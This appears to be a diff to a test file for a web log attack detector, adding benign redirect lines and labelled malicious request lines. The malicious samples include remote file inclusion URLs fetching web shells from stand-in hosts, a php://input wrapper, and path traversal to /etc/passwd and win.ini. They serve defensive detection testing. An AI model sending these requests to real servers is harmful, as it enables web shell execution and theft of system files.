@@ -22,6 +22,11 @@ def _line(target: str, status: int = 200, method: str = "GET") -> str:
 
 
 ORDINARY = [
+    # Outbound-link and redirect parameters the site answers with a redirect.
+    _line("/out?url=https://www.example.org/page?", 302),
+    _line("/click?page=https://www.example.org/article", 302),
+    _line("/out?url=https://www.rfc-editor.org/rfc/rfc9110.txt", 302),
+    _line("/track?page_url=https://www.example.org/article", 204),
     # A one-level relative link back into the site.
     _line("/login?return=../index.html"),
     _line("/login?next=../account/", 302),
@@ -31,6 +36,11 @@ ORDINARY = [
 ]
 
 CAUGHT = [
+    (_line("/index.php?page=http://evil.example/shell.txt?", 302), "file-inclusion-remote"),
+    (_line("/index.php?file=http://198.51.100.9/r57.txt%00"), "file-inclusion-remote"),
+    (_line("/index.php?page=ftp://evil.example/x"), "file-inclusion-remote"),
+    (_line("/main.php?template=https://evil.example/x"), "file-inclusion-remote"),
+    (_line("/index.php?page=php://input", 200, "POST"), "file-inclusion-wrapper"),
     (_line("/dl?f=../../etc/passwd"), "path-traversal-dotdot"),
     (_line("/dl?f=..%5c..%5cwindows%5cwin.ini"), "path-traversal-dotdot"),
     (_line("/dl?f=../../../../"), "path-traversal-dotdot"),
